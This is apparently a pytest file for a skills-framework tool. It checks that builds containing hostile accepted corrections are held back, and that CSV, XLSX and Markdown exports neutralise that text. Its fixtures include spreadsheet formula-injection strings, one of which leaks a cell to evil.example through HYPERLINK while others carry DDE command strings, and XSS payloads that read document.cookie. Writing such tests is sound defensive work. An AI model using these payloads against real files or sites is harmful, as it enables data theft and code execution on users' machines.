"""Hostile text in accepted corrections: a build with check errors is not made current unless
asked; spreadsheet exports write formula-like text as text; Markdown escapes it (issue 11,
items 10 and 11). On both backends: the text goes through the store and a real build."""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine
from typer.testing import CliRunner

import skillsx.cli.main as cli_main
from skillsx.build import run_build
from skillsx.cli.main import app
from skillsx.errors import BuildNotCurrent
from skillsx.export import export_document
from skillsx.ingest.load import load_release
from skillsx.ingest.read import read_release
from skillsx.store.accounts import create_user, review_correction, submit_correction
from skillsx.store.builds import get_build, get_document, list_builds

SOC = "11-2022.00"
PASSWORD = "a long passphrase nobody guesses 7"
runner = CliRunner()

#: What a hostile curator (or a careless one) might accept, one statement each.
FORMULAS = {
    1: '=HYPERLINK("http://evil.example/?leak="&A1,"Click") — follow the link.',
    2: "+cmd|' /C calc'!A0 — plan the sales of the region.",
    3: "Sales planning — -2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)*cmd|' /C calc'!A0 — review the figures.",
    5: "Forecasting — \t=1+1 hidden behind a tab.",
}
MARKDOWN = {
    6: (
        "Team <script>alert(1)</script> coaching — guide reps <img src=x onerror=alert(1)> and "
        "[click here](javascript:alert(document.cookie)) and <javascript:alert(2)>"
    ),
    7: "Reporting — summarise results\n# Injected heading\n<div onclick=alert(3)>x</div>",
    8: "1. Numbered — `code` ![img](http://x/y.png) **bold** | pipe | ---",
}


def _accept(engine: Engine, texts: dict[int, str]) -> None:
    """Submit and accept a correction of each ``emerging`` statement given (order → text)."""
    with engine.begin() as conn:
        tag = uuid.uuid4().hex[:8]
        author = create_user(conn, f"author-{tag}@example.org", PASSWORD, "contributor")
        curator = create_user(conn, f"curator-{tag}@example.org", PASSWORD, "curator")
        for order, text in texts.items():
            found = submit_correction(
                conn,
                author,
                soc=SOC,
                target=f"statement:emerging:{order}",
                current_text="",
                problem="test",
                proposed=text,
                reason="test",
                build_id=None,
            )
            review_correction(conn, curator, found.id, accept=True, reason="test")


@pytest.fixture
def hostile(empty_engine: Engine, release_dir: Path) -> dict[str, Any]:
    """A store whose clean build is current, then corrections with hostile text accepted."""
    load_release(empty_engine, read_release(release_dir))
    clean = run_build(empty_engine, socs=[SOC], workers=1)
    assert clean.current and clean.errors == 0
    _accept(empty_engine, FORMULAS | MARKDOWN)
    return {"engine": empty_engine, "clean": clean}


def test_build_with_errors_is_not_made_current_unless_asked(hostile: dict[str, Any]) -> None:
    engine, clean = hostile["engine"], hostile["clean"]
    with pytest.raises(BuildNotCurrent) as info:
        run_build(engine, socs=[SOC], workers=1)
    held = info.value.build
    assert held.errors > 0 and not held.current and held.status == "complete"
    assert str(info.value).startswith(
        f"Build {held.label} (id {held.id}) has {held.errors} check errors, so it was stored "
        f"but not made current; the current build is still {clean.label} (id {clean.id})."
    )
    with engine.connect() as conn:
        assert get_build(conn).id == clean.id
        assert [(b.id, b.current) for b in list_builds(conn)] == [
            (clean.id, True),
            (held.id, False),
        ]
    allowed = run_build(engine, socs=[SOC], workers=1, allow_errors=True)
    assert allowed.current and allowed.errors > 0


def test_cli_build_refuses_errors_without_allow_errors(
    hostile: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    engine, clean = hostile["engine"], hostile["clean"]
    monkeypatch.setenv("SKILLSX_DATABASE_URL", engine.url.render_as_string(False))
    opened: list[Engine] = []  # the commands' engines, closed at the end (PostgreSQL warns)
    real_engine = cli_main.engine

    def command_engine() -> Engine:
        opened.append(real_engine())
        return opened[-1]

    monkeypatch.setattr("skillsx.cli.main.engine", command_engine)
    result = runner.invoke(app, ["build", "--soc", SOC, "--workers", "1"])
    assert result.exit_code == 1
    assert result.output.strip().startswith("Error: Build ") and "not made current" in result.output
    assert "Traceback" not in result.output and "unexpected" not in result.output
    with engine.connect() as conn:
        assert get_build(conn).id == clean.id
    with engine.connect() as conn:
        held = list_builds(conn)[-1]
    result = runner.invoke(app, ["check", "--build", str(held.id)])
    assert result.exit_code == 1 and f"Build {held.label}, 1 frameworks:" in result.output
    result = runner.invoke(app, ["build", "--soc", SOC, "--workers", "1", "--allow-errors"])
    assert result.exit_code == 0, result.output
    assert "now current" in result.output
    for eng in opened:
        eng.dispose()


def _hostile_document(engine: Engine) -> dict[str, Any]:
    run_build(engine, socs=[SOC], workers=1, allow_errors=True)
    with engine.connect() as conn:
        return get_document(conn, SOC)


def test_spreadsheet_exports_write_formulas_as_text(hostile: dict[str, Any]) -> None:
    doc = _hostile_document(hostile["engine"])
    emerging = {s["order"]: s for s in doc["framework"]["statements"] if s["level"] == "emerging"}
    expected = {  # every cell that starts like a formula, as the document holds it
        value
        for order in FORMULAS
        for value in (emerging[order]["subject"], emerging[order]["action"])
        if value[0] in "=+-@\t\r"
    }
    assert len(expected) == 5  # three subjects and two actions start like a formula

    text = export_document("csv", doc, "v.26.11").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for value in expected:
        assert "'" + value in cells  # OWASP: a leading single quote
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    data = export_document("xlsx", doc, "v.26.11")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    found = {
        cell.value: (cell.data_type, cell.quotePrefix)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value in expected
    }
    assert found == dict.fromkeys(expected, ("s", True))  # the text itself, as a string cell


def test_markdown_escapes_user_text(hostile: dict[str, Any]) -> None:
    doc = _hostile_document(hostile["engine"])
    text = export_document("md", doc, "v.26.11").decode()
    lines = text.splitlines()
    assert not re.search(r"(?<!\\)<", text)  # no raw HTML, no autolink
    assert not re.search(r"(?<!\\)\]\(", text)  # no link or image
    headings = [ln for ln in lines if ln.lstrip().startswith("#")]
    assert "# Injected heading" not in headings and all(
        h.startswith(("# Sales Managers", "## ", "### ")) for h in headings
    )
    # The text is all there, escaped, on the statement's own line.
    line = next(ln for ln in lines if "Injected heading" in ln)
    assert line.startswith("7. **Reporting** — summarise results \\# Injected heading \\<div")
    assert "1\\. Numbered" in text and "\\`code\\` \\!\\[img\\](http://x/y.png)" in text
    assert "\\*\\*bold\\*\\* \\| pipe \\| ---" in text
